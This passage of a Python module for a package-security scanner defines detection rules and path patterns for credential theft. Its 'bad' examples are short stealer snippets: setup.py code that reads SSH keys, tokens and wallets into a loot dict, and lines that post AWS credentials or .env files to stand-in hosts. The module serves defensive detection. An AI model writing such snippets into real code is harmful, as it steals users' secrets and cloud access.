"""Credential access: secret files and token stores that reach a read, the whole environment,
and cloud instance-metadata credentials.

A secret path is a finding only when it reaches something that reads it: ``open``,
``Path.read_text``/``read_bytes``, ``shutil.copy``, ``glob``/``os.listdir``/``os.walk``,
``sqlite3.connect``, ``ConfigParser.read``, ``netrc.netrc`` or a shell command. Paths are followed
through local variables, module constants, ``self`` attributes, loop variables over literal lists,
function parameters (from the module's own call sites), ``os.path.join``, ``Path /`` and string
building. A path in a docstring, an error message or a table of defaults that nothing reads is not
an access. Each read is marked ``SECRET_READ`` on the expression that yields the data, for the flow
family's taint analysis; whole-environment reads are marked ``ENV_BULK``.
"""

from __future__ import annotations

import ast
import itertools
import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from typing import ClassVar

from depvet.analysis.capabilities import PATH_JOINERS
from depvet.analysis.decode import PROCESS_NAMES
from depvet.analysis.detector import Cap, Detector, PyContext, TextContext, hint_index, short
from depvet.analysis.files import FileKind
from depvet.analysis.pyfacts import CallSite, Scope, ScopeKind
from depvet.model import Category, RunContext, Severity
from depvet.rules import Example, Rule

_ATTACK_CRED_FILES = "https://attack.mitre.org/techniques/T1552/001/"
_ATTACK_BROWSER = "https://attack.mitre.org/techniques/T1555/003/"
_LITELLM = "https://docs.litellm.ai/blog/security-update-march-2026"

SSH_KEY_READ = Rule(
    id="DV301",
    name="ssh-private-key-read",
    title="Reads SSH private keys",
    severity=Severity.HIGH,
    category=Category.CREDENTIALS,
    description=(
        "Code opens, copies, globs or lists `~/.ssh` private keys (`id_rsa`, `id_ed25519`, `id_*`, the "
        "whole `.ssh` folder) or the host keys in `/etc/ssh`. A private key gives its holder the "
        "victim's access to every server and Git host that trusts it; install-time stealers and the "
        "LiteLLM 1.82.8 payload collected these first. `config`, `known_hosts` and `*.pub` are not "
        "secrets and are not reported."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import os, glob\nfrom setuptools import setup\nkeys = {}\n"
            "for p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
            "    keys[p] = open(p).read()\nsetup(name='x')\n"
        ),
    ),
    good=Example(
        path="sshtool/__init__.py",
        code=(
            "import os\n\nKNOWN_HOSTS = os.path.expanduser('~/.ssh/known_hosts')\n\n"
            "def hosts():\n    '''Reads ~/.ssh/id_rsa? No: only known_hosts.'''\n"
            "    with open(KNOWN_HOSTS) as f:\n        return f.read().split()\n"
        ),
    ),
    false_positives="SSH clients (paramiko, fabric, asyncssh) load the user's keys inside connection "
    "functions; there the finding is one level lower and the flow family decides whether the key "
    "leaves the machine.",
    references=("https://attack.mitre.org/techniques/T1552/004/", _LITELLM),
)
CLOUD_CREDENTIALS_READ = Rule(
    id="DV302",
    name="cloud-credentials-read",
    title="Reads cloud provider credential files (AWS, gcloud, Azure, OCI)",
    severity=Severity.HIGH,
    category=Category.CREDENTIALS,
    description=(
        "Code reads `~/.aws/credentials` or `~/.aws/config`, the AWS SSO/CLI token caches, the gcloud "
        "configuration folder (`credentials.db`, `access_tokens.db`, "
        "`application_default_credentials.json`), `~/.azure` token caches or `~/.oci/config`. These "
        "files hold long-lived keys and refresh tokens for whole cloud accounts."
    ),
    bad=Example(
        path="cloudstats/__init__.py",
        code=(
            "import requests\nfrom pathlib import Path\n"
            "creds = (Path.home() / '.aws' / 'credentials').read_text()\n"
            "requests.post('https://stats.example.invalid/c', data=creds)\n"
        ),
    ),
    good=Example(
        path="cloudstats/__init__.py",
        code=(
            "DEFAULT_LOCATIONS = {'aws': '~/.aws/credentials', 'gcp': '~/.config/gcloud'}\n\n"
            "def explain():\n    return 'credentials are read from %s' % DEFAULT_LOCATIONS['aws']\n"
        ),
    ),
    false_positives="Cloud SDKs (botocore, google-auth, azure-identity) read these files inside "
    "credential-provider functions: reported one level lower there.",
    references=(_ATTACK_CRED_FILES, _LITELLM),
)
KUBE_CREDENTIALS_READ = Rule(
    id="DV303",
    name="kubernetes-credentials-read",
    title="Reads Kubernetes credentials (kubeconfig or service-account token)",
    severity=Severity.HIGH,
    category=Category.CREDENTIALS,
    description=(
        "Code reads `~/.kube/config`, the control-plane kubeconfigs in `/etc/kubernetes` or a pod's "
        "service-account token under `/var/run/secrets/.../serviceaccount`. These grant API access "
        "to the cluster; LiteLLM 1.82.8 used the token to list every secret and start privileged "
        "pods on every node."
    ),
    bad=Example(
        path="k8shelper/__init__.py",
        code=(
            "TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token'\n"
            "with open(TOKEN) as f:\n    token = f.read()\n"
        ),
    ),
    good=Example(
        path="k8shelper/__init__.py",
        code=(
            "import os\nKUBECONFIG_HELP = 'set KUBECONFIG or create ~/.kube/config'\n\n"
            "def cache_dir():\n    return os.path.expanduser('~/.kube/cache')\n"
        ),
    ),
    false_positives="The kubernetes client reads kubeconfig and the in-cluster token inside its "
    "config loaders: one level lower there.",
    references=("https://attack.mitre.org/techniques/T1528/", _LITELLM),
)
TOKEN_FILE_READ = Rule(
    id="DV304",
    name="developer-token-file-read",
    title="Reads developer token files (.netrc, .git-credentials, .pypirc, docker)",
    severity=Severity.HIGH,
    category=Category.CREDENTIALS,
    description=(
        "Code reads `~/.netrc`, `~/.git-credentials`, `~/.pypirc`, `~/.docker/config.json`, "
        "`~/.npmrc`, `~/.vault-token`, `~/.pgpass` or the GitHub CLI's `hosts.yml`: plain-text "
        "tokens for Git hosts, package indexes, registries and databases. Stolen index tokens are "
        "how worms publish poisoned releases of other packages."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import os\nfrom setuptools import setup\n"
            "data = open(os.path.join(os.path.expanduser('~'), '.pypirc')).read()\nsetup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "from setuptools import setup\n"
            "setup(name='x', description='Uploads with the token in your ~/.pypirc')\n"
        ),
    ),
    false_positives="HTTP clients read `.netrc` for authentication (requests, httpx, aiohttp) and "
    "upload tools read `.pypirc`, inside functions: reported one level lower there.",
    references=(_ATTACK_CRED_FILES, _LITELLM),
)
DOTENV_READ = Rule(
    id="DV305",
    name="dotenv-file-read",
    title="Reads a .env file",
    severity=Severity.MEDIUM,
    category=Category.CREDENTIALS,
    description=(
        "Code opens a `.env`, `.env.local`, `.env.production`... file directly. These files hold the "
        "API keys and database passwords of the project they sit in, and harvesters sweep them from "
        "the working directory and its parents. Applications load their own `.env` too, so the rule "
        "is medium and matters most through the flow rule (secret data sent over the network)."
    ),
    bad=Example(
        path="envtools/__init__.py",
        code=(
            "import os, urllib.request\nsecrets = open(os.path.join(os.getcwd(), '.env')).read()\n"
            "urllib.request.urlopen('https://env.example.invalid/', secrets.encode())\n"
        ),
    ),
    good=Example(
        path="envtools/__init__.py",
        code=(
            "def template():\n    with open('.env.example') as f:\n        return f.read()\n\n"
            "HELP = 'copy .env.example to .env'\n"
        ),
    ),
    false_positives="Applications and CLIs that load their own configuration from `.env`.",
    references=(_ATTACK_CRED_FILES, _LITELLM),
)
BROWSER_STORE_READ = Rule(
    id="DV306",
    name="browser-credential-store-read",
    title="Reads browser password, cookie or key stores",
    severity=Severity.HIGH,
    category=Category.CREDENTIALS,
    description=(
        "Code opens, copies or queries a browser profile's `Login Data`, `Web Data`, `Cookies` or "
        "`Local State` (Chrome, Chromium, Edge, Brave, Opera, Yandex, Vivaldi) or Firefox's "
        "`logins.json`, `key4.db` and `cookies.sqlite`. These hold saved passwords, session cookies "
        "and the key that decrypts them: the core of info-stealer malware on PyPI."
    ),
    bad=Example(
        path="chromeutil/__init__.py",
        code=(
            "import os, shutil, sqlite3\n"
            "src = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', "
            "'Default', 'Login Data')\n"
            "shutil.copy(src, 'tmp.db')\nrows = sqlite3.connect('tmp.db').execute('select 1').fetchall()\n"
        ),
    ),
    good=Example(
        path="chromeutil/__init__.py",
        code=(
            "import json\nLABELS = {'Login Data': 'saved passwords', 'Cookies': 'cookies'}\n\n"
            "def describe(name):\n    return LABELS.get(name, 'unknown store')\n"
        ),
    ),
    false_positives="Cookie-import tools (browser_cookie3, yt-dlp) read cookie stores when asked to; "
    "they do so in functions (one level lower).",
    references=(_ATTACK_BROWSER,),
)
TOKEN_STORE_READ = Rule(
    id="DV307",
    name="app-token-store-read",
    title="Reads Discord, Telegram or Electron session token stores",
    severity=Severity.HIGH,
    category=Category.CREDENTIALS,
    description=(
        "Code lists or opens `discord*/Local Storage/leveldb` (or any Electron/Chromium "
        "`Local Storage/leveldb`) or Telegram Desktop's `tdata`. These hold the session tokens that "
        "let an attacker log in as the victim without a password; Discord token grabbers are among "
        "the most common malware on PyPI."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import os\nfrom setuptools import setup\n"
            "path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
            "for name in os.listdir(path):\n"
            "    data = open(os.path.join(path, name), errors='ignore').read()\nsetup(name='x')\n"
        ),
    ),
    good=Example(
        path="chatbot/__init__.py",
        code=(
            "import os\nDISCORD_API = 'https://discord.com/api/v10'\n\n"
            "def token():\n    return os.environ['DISCORD_BOT_TOKEN']\n"
        ),
    ),
    false_positives="Tools that migrate or back up an application's own Electron storage.",
    references=("https://attack.mitre.org/techniques/T1528/",),
)
WALLET_READ = Rule(
    id="DV308",
    name="crypto-wallet-read",
    title="Reads cryptocurrency wallet files",
    severity=Severity.HIGH,
    category=Category.CREDENTIALS,
    description=(
        "Code reads wallet data: Exodus, Electrum, Atomic, Jaxx, Coinomi, Guarda, Armory, Bitcoin "
        "Core `wallet.dat`, Ethereum keystores, Solana `id.json`, or browser wallet extensions "
        "(MetaMask `nkbihfbeogaeaoehlefnkodbefgpgknn`, Phantom, Coinbase, Binance, TronLink...). "
        "Whoever copies these files can empty the wallets."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import os, shutil\nfrom setuptools import setup\n"
            "shutil.copytree(os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet'), 'w')\n"
            "setup(name='x')\n"
        ),
    ),
    good=Example(
        path="walletfmt/__init__.py",
        code=(
            "SUPPORTED = ['Exodus', 'Electrum', 'MetaMask']\n\n"
            "def is_supported(name):\n    return name in SUPPORTED\n"
        ),
    ),
    false_positives="Wallet software reading its own data files.",
    references=("https://attack.mitre.org/techniques/T1005/",),
)
ENV_BULK_READ = Rule(
    id="DV309",
    name="environment-bulk-read",
    title="Reads the whole process environment",
    severity=Severity.LOW,
    category=Category.CREDENTIALS,
    description=(
        "Code copies, serialises or iterates the entire environment (`dict(os.environ)`, "
        "`os.environ.copy()`, `os.environ.items()`, `{**os.environ}`, `json.dumps(os.environ)`). In "
        "CI and containers the environment is where tokens live; on its own this is common and low, "
        "but it is marked so that the flow family can report environment data sent over the "
        "network. Copies handed to a subprocess as `env=` are ignored."
    ),
    bad=Example(
        path="envdump/__init__.py",
        code="import os, json\nSNAPSHOT = json.dumps(dict(os.environ))\n",
    ),
    good=Example(
        path="envdump/__init__.py",
        code=(
            "import os, subprocess\n\ndef run(cmd):\n    env = os.environ.copy()\n"
            "    env['LC_ALL'] = 'C'\n    return subprocess.run(cmd, env=env, check=True)\n"
        ),
    ),
    false_positives="Configuration loaders that scan variables with a prefix; test helpers that save "
    "and restore the environment.",
    references=("https://attack.mitre.org/techniques/T1552/007/",),
)
METADATA_CREDENTIALS = Rule(
    id="DV310",
    name="cloud-metadata-credentials",
    title="Requests credentials from a cloud instance-metadata endpoint",
    severity=Severity.HIGH,
    category=Category.CREDENTIALS,
    description=(
        "Code requests a credential path of an instance-metadata service: AWS "
        "`169.254.169.254/latest/meta-data/iam/security-credentials/` or user-data, the ECS "
        "credentials endpoint `169.254.170.2`, GCP `metadata.google.internal/.../service-accounts/"
        ".../token`, Azure `/metadata/identity/oauth2/token`, Alibaba `100.100.100.200`. The answer is "
        "a live cloud role credential of the machine the package is installed on."
    ),
    bad=Example(
        path="costreport/__init__.py",
        code=(
            "import requests\nbase = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
            "role = requests.get(base, timeout=2).text\ncreds = requests.get(base + role).json()\n"
        ),
    ),
    good=Example(
        path="costreport/__init__.py",
        code=(
            "BLOCKED_HOSTS = ['169.254.169.254', 'metadata.google.internal']\n\n"
            "def allowed(host):\n    return host not in BLOCKED_HOSTS\n"
        ),
    ),
    false_positives="Cloud SDK credential providers (botocore, google-auth, azure-identity, msal) do "
    "this inside functions: one level lower there.",
    references=("https://attack.mitre.org/techniques/T1552/005/", _LITELLM),
)
METADATA_ACCESS = Rule(
    id="DV311",
    name="cloud-metadata-access",
    title="Queries a cloud instance-metadata endpoint",
    severity=Severity.MEDIUM,
    category=Category.CREDENTIALS,
    description=(
        "Code sends a request to an instance-metadata service (`169.254.169.254`, "
        "`metadata.google.internal`, `169.254.170.2`, or with a `Metadata-Flavor`/`Metadata: true` "
        "header) for something other than a known credential path. Malware uses it to learn which "
        "cloud, account and role it runs in before asking for credentials."
    ),
    bad=Example(
        path="whereami/__init__.py",
        code=(
            "import urllib.request\n"
            "req = urllib.request.Request('http://metadata.google.internal/computeMetadata/v1/project/"
            "project-id', headers={'Metadata-Flavor': 'Google'})\n"
            "PROJECT = urllib.request.urlopen(req).read()\n"
        ),
    ),
    good=Example(
        path="whereami/__init__.py",
        code="IMDS_DOC = 'see http://169.254.169.254/latest/meta-data/ in the AWS docs'\n",
    ),
    false_positives="Cloud SDKs detecting their region or project; telemetry libraries detecting the "
    "cloud they run in.",
    references=("https://attack.mitre.org/techniques/T1552/005/",),
)
CREDENTIAL_SWEEP = Rule(
    id="DV312",
    name="credential-store-sweep",
    title="Reads several kinds of credential stores in one module",
    severity=Severity.CRITICAL,
    category=Category.CREDENTIALS,
    description=(
        "One module reads three or more different kinds of secrets (for example SSH keys, cloud "
        "credentials and browser passwords, or Discord tokens, browser cookies and wallets). "
        "Libraries read the one store they need; sweeping unrelated stores is what credential "
        "harvesters such as the LiteLLM 1.82.8 payload and Discord/browser stealers do."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import os\nfrom setuptools import setup\nloot = {}\n"
            "for p in ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.kube/config', '~/.git-credentials']:\n"
            "    try:\n        loot[p] = open(os.path.expanduser(p)).read()\n"
            "    except OSError:\n        pass\nsetup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import os\nfrom setuptools import setup\n"
            "DOCS = ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.kube/config']\n"
            "setup(name='x', long_description='never reads ' + ', '.join(DOCS))\n"
        ),
    ),
    false_positives="Secret scanners and backup tools that deliberately inventory credential files.",
    references=(_LITELLM, _ATTACK_CRED_FILES),
)

RULES: tuple[Rule, ...] = (
    SSH_KEY_READ,
    CLOUD_CREDENTIALS_READ,
    KUBE_CREDENTIALS_READ,
    TOKEN_FILE_READ,
    DOTENV_READ,
    BROWSER_STORE_READ,
    TOKEN_STORE_READ,
    WALLET_READ,
    ENV_BULK_READ,
    METADATA_CREDENTIALS,
    METADATA_ACCESS,
    CREDENTIAL_SWEEP,
)

# -- the catalogue of secret stores ------------------------------------------------------------

UNKNOWN = "\x00"  # a part of a path we cannot read statically
_B = r"(?:^|[/\s\"'=~:%(])"  # the start of a path component
_E = r"(?=$|[/\s\"';|&)>*\x00])"  # the end of a path component
_F = r"(?=$|[\s\"';|&)>])"  # the end of a file name (no further component)
_ANY_CHILD = r"(?:/[^/\s]*[*\x00][^\s]*|/?$|/?(?=[\s\"';|&)]))"  # the folder, a glob or unknown child

WALLET_EXTENSIONS = (
    "nkbihfbeogaeaoehlefnkodbefgpgknn",  # MetaMask
    "ejbalbakoplchlghecdalmeeeajnimhm",  # MetaMask (Edge)
    "bfnaelmomeimhlpmgjnjophhpkkoljpa",  # Phantom
    "hnfanknocfeofbddgcijnmhnfnkdnaad",  # Coinbase Wallet
    "fhbohimaelbohpjbbldcngcnapndodjp",  # Binance Wallet
    "ibnejdfjmmkpcnlpebklmnkoeoihofec",  # TronLink
    "fnjhmkhhmkbjkkabndcnnogagogbneec",  # Ronin
    "egjidjbpglichdcondbcbdnbeeppgdph",  # Trust Wallet
    "dmkamcknogkgcdfhhbddcghachkejeap",  # Keplr
    "aholpfdialjgjfhomihkjbmgjidlcdno",  # Exodus Web3
    "aeachknmefphepccionboohckonoeemg",  # Coin98
)
_BROWSER_ROOT = (
    r"(?:google/chrome|chrome sxs|google-chrome|chromium|bravesoftware|brave-browser|microsoft/edge|"
    r"opera software|opera stable|opera gx|yandex/yandexbrowser|vivaldi|mozilla/firefox|\.mozilla|"
    r"firefox/profiles)"
)


@dataclass(frozen=True, slots=True)
class SecretKind:
    key: str
    label: str
    rule: Rule
    pattern: re.Pattern[str]


def _kind(key: str, label: str, rule: Rule, *patterns: str) -> SecretKind:
    return SecretKind(key, label, rule, re.compile("|".join(f"(?:{p})" for p in patterns)))


# Checked in order: the first kind whose pattern matches a normalised path names it.
SECRET_KINDS: tuple[SecretKind, ...] = (
    _kind("wallet", "crypto wallet", WALLET_READ, "|".join(WALLET_EXTENSIONS)),
    _kind(
        "wallet",
        "crypto wallet",
        WALLET_READ,
        rf"{_B}(?:exodus|exodus\.wallet|electrum|\.electrum|electrum-ltc|com\.liberty\.jaxx|jaxx|coinomi|"
        rf"guarda|wasabi ?wallet|bitcoin/wallets|litecoin/wallets|dash/wallets|zcash|"
        rf"monero/wallets|ethereum/keystore|atomic/local storage){_E}",
        rf"{_B}wallet[\w-]*\.dat{_F}",
        r"solana/(?:id|[\w-]*keypair)\.json",
    ),
    _kind(
        "token-store",
        "Discord/Telegram token store",
        TOKEN_STORE_READ,
        rf"{_B}(?:discord|discordcanary|discordptb|discorddevelopment|lightcord){_E}",
        r"telegram desktop/tdata",
        r"telegram desktop" + _ANY_CHILD,
    ),
    _kind(
        "browser",
        "browser credential store",
        BROWSER_STORE_READ,
        rf"{_B}(?:login data|web data|local state|logins\.json|key[34]\.db|cookies\.sqlite|"
        rf"signons\.sqlite|cert[89]\.db)(?:-journal)?{_F}",
        rf"{_BROWSER_ROOT}.*{_B}(?:network/)?cookies{_F}",
        rf"(?:{_B}user data|firefox/profiles|\.mozilla/firefox|\.config/(?:google-chrome|chromium|"
        rf"bravesoftware/brave-browser|microsoft-edge|vivaldi|opera)|opera software/opera[\w ]*)"
        rf"(?:/default|/profile [\d\x00]+)?{_ANY_CHILD}",
    ),
    _kind("token-store", "Chromium/Electron local storage", TOKEN_STORE_READ, r"local storage/leveldb"),
    _kind(
        "ssh",
        "SSH private key",
        SSH_KEY_READ,
        rf"{_B}\.ssh(?:/(?:id_[\w.-]*(?<!\.pub)|identity|[^/\s]*[*\x00][^/\s]*)?)?{_F}",
        rf"/etc/ssh/(?:ssh_host_\w*_key|[^/\s]*[*\x00][^/\s]*){_F}",
    ),
    _kind(
        "cloud",
        "cloud credentials",
        CLOUD_CREDENTIALS_READ,
        rf"{_B}\.aws(?:/(?:credentials|config|sso/cache|cli/cache)|{_ANY_CHILD})",
        r"\.config/gcloud" + _ANY_CHILD,
        rf"{_B}gcloud/(?:credentials\.db|access_tokens\.db|legacy_credentials)",
        r"application_default_credentials\.json",
        rf"{_B}\.azure(?:/(?:accesstokens\.json|msal_token_cache\.\w+|service_principal_entries\.\w+)"
        rf"|{_ANY_CHILD})",
        rf"{_B}\.oci/config{_F}",
    ),
    _kind(
        "kube",
        "Kubernetes credentials",
        KUBE_CREDENTIALS_READ,
        rf"{_B}\.kube(?:/config[\w.-]*{_F}|{_ANY_CHILD})",
        r"/etc/kubernetes/(?:admin|super-admin|kubelet|controller-manager|scheduler)\.conf",
        rf"/run/secrets/[\w.-]+/serviceaccount(?:/token{_F}|{_ANY_CHILD})",
    ),
    _kind(
        "token-file",
        "developer token file",
        TOKEN_FILE_READ,
        rf"{_B}(?:\.netrc|_netrc|\.git-credentials|\.pypirc|\.dockercfg|\.npmrc|\.vault-token|\.pgpass)"
        rf"{_F}",
        rf"\.docker/config\.json{_F}",
        r"\.config/gh/hosts\.ya?ml",
    ),
    _kind(
        "dotenv",
        ".env file",
        DOTENV_READ,
        rf"{_B}\.env(?:\.(?!example|sample|template|dist|defaults?\b|schema)[\w-]+)?{_F}",
    ),
)
_KIND_BY_KEY = {k.key: k for k in SECRET_KINDS}

# Cloud instance-metadata endpoints. Gates test them as substrings of lower-cased text (a
# case-insensitive regex over every module cost more than the rule); line rules use the regex.
METADATA_HOSTS = (
    "169.254.169.254",
    "169.254.170.2",
    "metadata.google.internal",
    "100.100.100.200",
    "fd00:ec2::254",
    "metadata.azure.internal",
)
_METADATA_HOST = re.compile("|".join(map(re.escape, METADATA_HOSTS)), re.IGNORECASE)
_METADATA_CREDENTIAL_PATH = re.compile(
    r"security-credentials|identity-credentials|/user-data|service-accounts/[^\s]*(?:token|identity)"
    r"|/identity/oauth2/token|attributes/kube-env|169\.254\.170\.2",
    re.IGNORECASE,
)


def normalise(path: str) -> str:
    text = path.replace("\\", "/").lower()
    return re.sub(r"/{2,}", "/", text)


def classify_path(path: str) -> SecretKind | None:
    """The secret store a (normalised or raw) path names, if any."""
    text = normalise(path)
    for kind in SECRET_KINDS:
        if kind.pattern.search(text):
            return kind
    return None


def display(path: str) -> str:
    return path.replace(UNKNOWN, "…")


# -- static values of path expressions ---------------------------------------------------------

# The detail of SECRET_READ marks on requests to a cloud metadata endpoint (read by flow rules).
METADATA_MARK = "instance metadata"
MAX_CANDIDATES = 48
MAX_DEPTH = 14
# Resolution steps per module: past this every further expression is UNKNOWN, so a module with
# long chains of reassigned names costs bounded time instead of a product of its candidates.
MAX_STEPS = 20_000

_JOINERS = PATH_JOINERS | {"path.Path"}
_PASS_FIRST = frozenset(
    {
        "os.path.expanduser",
        "os.path.expandvars",
        "os.path.abspath",
        "os.path.realpath",
        "os.path.normpath",
        "posixpath.expanduser",
        "ntpath.expanduser",
        "ntpath.abspath",
        "os.fspath",
        "builtins.str",
        "builtins.repr",
        "urllib.request.Request",
        "urllib2.Request",
        "requests.Request",
        "builtins.sorted",
        "builtins.list",
        "builtins.tuple",
        "builtins.set",
    }
)
_PASS_RECEIVER = frozenset(
    {
        "expanduser",
        "expandvars",
        "resolve",
        "absolute",
        "as_posix",
        "replace",
        "strip",
        "rstrip",
        "lstrip",
        "lower",
        "encode",
        "decode",
        "format",
        "format_map",
    }
)
# Calls that enumerate a folder: a loop over them yields paths (or names) below it.
_LISTERS = frozenset({"os.listdir", "os.scandir", "os.walk", "glob.glob", "glob.iglob"})
_LISTER_METHODS = frozenset({"iterdir", "glob", "rglob", "walk"})
_HOME_VARS = frozenset({"HOME", "USERPROFILE"})


@dataclass(frozen=True, slots=True)
class Located:
    """An expression together with the scope its names resolve in."""

    node: ast.expr
    scope: Scope


class PathResolver:
    """Static string candidates of path-like expressions of one module.

    Names resolve through assignments of their own scope chain, loop targets, ``self``
    attributes and the module's own call sites of the enclosing function. Unknown parts become
    ``UNKNOWN``. Every result is bounded (``MAX_CANDIDATES`` strings, ``MAX_DEPTH`` levels).
    """

    def __init__(self, ctx: PyContext) -> None:
        self.ctx = ctx
        self._memo: dict[int, list[str]] = {}
        self._active: set[int] = set()
        self._possible_memo: dict[tuple[int, int], list[Located]] = {}
        self._possible_active: set[tuple[int, int]] = set()
        self._depth = 0
        self._steps = 0
        self._callers: dict[str, list[CallSite]] | None = None
        self._bound_ids: set[int] | None = None
        self._attr_assigns: dict[str, list[Located]] | None = None

    # -- public ------------------------------------------------------------------------------

    def render(self, node: ast.expr, scope: Scope) -> list[str]:
        key = id(node)
        cached = self._memo.get(key)
        if cached is not None:
            return cached
        self._steps += 1
        if self._depth >= MAX_DEPTH or key in self._active or self._steps > MAX_STEPS:
            return [UNKNOWN]
        self._active.add(key)
        self._depth += 1
        try:
            out = _dedup(self._render(node, scope))
        finally:
            self._depth -= 1
            self._active.discard(key)
        self._memo[key] = out
        return out

    def possible(self, node: ast.expr, scope: Scope) -> list[Located]:
        """What an expression may stand for: names and ``self`` attributes dereferenced."""
        if not isinstance(node, ast.Name) and not _self_attr(node):
            return [Located(node, scope)]
        key = (id(node), id(scope))
        cached = self._possible_memo.get(key)
        if cached is not None:
            return cached
        self._steps += 1
        if self._depth >= MAX_DEPTH or key in self._possible_active or self._steps > MAX_STEPS:
            return [Located(node, scope)]
        self._depth += 1
        self._possible_active.add(key)
        try:
            found = (
                self._name_values(node, scope) if isinstance(node, ast.Name) else self._self_attr_values(node)
            )
            out: list[Located] = []
            for item in found[:MAX_CANDIDATES]:
                out.extend(self.possible(item.node, item.scope) if item.node is not node else [item])
            result = out[:MAX_CANDIDATES] or [Located(node, scope)]
        finally:
            self._depth -= 1
            self._possible_active.discard(key)
        self._possible_memo[key] = result
        return result

    def elements(self, node: ast.expr, scope: Scope) -> list[Located]:
        """What a loop over ``node`` yields, for literal collections and folder listings."""
        self._steps += 1
        if self._depth >= MAX_DEPTH or self._steps > MAX_STEPS:
            return []
        self._depth += 1
        try:
            out: list[Located] = []
            for item in self.possible(node, scope):
                out.extend(self._elements_of(item))
            return out[:MAX_CANDIDATES]
        finally:
            self._depth -= 1

    # -- rendering ---------------------------------------------------------------------------

    def _render(self, node: ast.expr, scope: Scope) -> list[str]:  # noqa: C901 - a dispatch
        match node:
            case ast.Constant(value=str() as text):
                return [text]
            case ast.Constant(value=bytes() as data):
                return [data.decode("latin-1")]
            case ast.JoinedStr(values=parts):
                return _product([self._formatted(p, scope) for p in parts], "")
            case ast.BinOp(op=ast.Add(), left=left, right=right):
                return _product([self.render(left, scope), self.render(right, scope)], "")
            case ast.BinOp(op=ast.Div(), left=left, right=right):
                return _product([self.render(left, scope), self.render(right, scope)], "/")
            case ast.BinOp(op=ast.Mod(), left=left):
                return [re.sub(r"%[-\d.]*[sdr]", UNKNOWN, t) for t in self.render(left, scope)]
            case ast.Name() | ast.Attribute() if isinstance(node, ast.Name) or _self_attr(node):
                return self._render_all(self.possible(node, scope), node)
            case ast.Attribute():
                return self._evaluated(node)
            case ast.Call():
                return self._render_call(node, scope)
            case ast.Subscript():
                return self._render_subscript(node, scope)
            case ast.List(elts=elts) | ast.Tuple(elts=elts) | ast.Set(elts=elts):
                return _union(self.render(e, scope) for e in elts)
            case ast.Dict(values=values):
                return _union(self.render(v, scope) for v in values)
            case ast.IfExp(body=body, orelse=orelse):
                return _union([self.render(body, scope), self.render(orelse, scope)])
            case ast.BoolOp(values=values):
                return _union(self.render(v, scope) for v in values)
            case ast.Starred(value=value) | ast.NamedExpr(value=value) | ast.Await(value=value):
                return self.render(value, scope)
        return self._evaluated(node)

    def _render_all(self, items: list[Located], origin: ast.expr) -> list[str]:
        if len(items) == 1 and items[0].node is origin:
            return self._evaluated(origin)
        return _union(self.render(i.node, i.scope) for i in items)

    def _formatted(self, part: ast.expr, scope: Scope) -> list[str]:
        if isinstance(part, ast.FormattedValue):
            return self.render(part.value, scope)
        return self.render(part, scope)

    def _evaluated(self, node: ast.expr) -> list[str]:
        value = self.ctx.text_value(node)
        return [value] if value is not None and len(value) < 4096 else [UNKNOWN]

    def _render_call(self, node: ast.Call, scope: Scope) -> list[str]:
        name = self.ctx.facts_resolve(node.func) or ""
        func = node.func
        attr = func.attr if isinstance(func, ast.Attribute) else None
        args = [a for a in node.args if not isinstance(a, ast.Starred)]
        if name in _JOINERS:
            return _product([self.render(a, scope) for a in args], "/") if args else ["."]
        if name in _PASS_FIRST and args:
            return self.render(args[0], scope)
        env = _env_name(self.ctx, node)
        if env is not None:
            return ["~" if env in _HOME_VARS else f"%{env}%"]
        if name in ("pathlib.Path.home", "os.path.expanduser") or attr == "home":
            return ["~"]
        if name in ("tempfile.gettempdir", "tempfile.mkdtemp"):
            return ["%tmp%"]
        if name in _LISTERS and args:
            tail = "" if name.startswith("glob.") else "/" + UNKNOWN
            return [t + tail for t in self.render(args[0], scope)]
        if isinstance(func, ast.Attribute):
            if attr == "joinpath":
                parts = [self.render(func.value, scope)] + [self.render(a, scope) for a in args]
                return _product(parts, "/")
            if attr in _LISTER_METHODS:
                middle = [[UNKNOWN]] if attr != "glob" else []
                pattern = [self.render(args[0], scope)] if args and attr in ("glob", "rglob") else []
                return _product([self.render(func.value, scope), *middle, *pattern], "/")
            if attr in _PASS_RECEIVER:
                return [
                    re.sub(r"\{[^{}]*\}", UNKNOWN, t) if attr.startswith("format") else t
                    for t in self.render(func.value, scope)
                ]
        return self._evaluated(node)

    def _render_subscript(self, node: ast.Subscript, scope: Scope) -> list[str]:
        env = _env_name(self.ctx, node)
        if env is not None:
            return ["~" if env in _HOME_VARS else f"%{env}%"]
        index = node.slice
        if isinstance(index, ast.Slice):
            return self.render(node.value, scope)
        key = index.value if isinstance(index, ast.Constant) else None
        out: list[str] = []
        for item in self.possible(node.value, scope):
            picked = _pick(item.node, key)
            out.extend(self.render(picked, item.scope) if picked is not None else [UNKNOWN])
        return _dedup(out)

    # -- names -------------------------------------------------------------------------------

    def _name_values(self, node: ast.Name, scope: Scope) -> list[Located]:
        name = node.id
        line = getattr(node, "lineno", 1 << 30)
        current: Scope | None = scope
        while current is not None:
            found = self._bound_in(name, current, line)
            if found:
                return found
            if current.kind is ScopeKind.FUNCTION and name in current.params:
                return self._param_values(current, name)
            current = current.parent
        bound = self.ctx.facts.binding(name, line)
        return [Located(bound, self.ctx.facts.module)] if bound is not None else []

    def _bound_in(self, name: str, scope: Scope, line: int) -> list[Located]:
        assigned = [
            (bline, value) for bline, where, value in self.ctx.facts.bindings.get(name, ()) if where is scope
        ]
        before = [value for bline, value in assigned if bline < line]
        values = [Located(v, scope) for v in (before or [v for _, v in assigned])[-4:]]
        for names, value in scope.assigns:
            if name in names and id(value) not in self._bound():
                values.extend(self._target_values(names, name, value, scope))
        return values

    def _target_values(
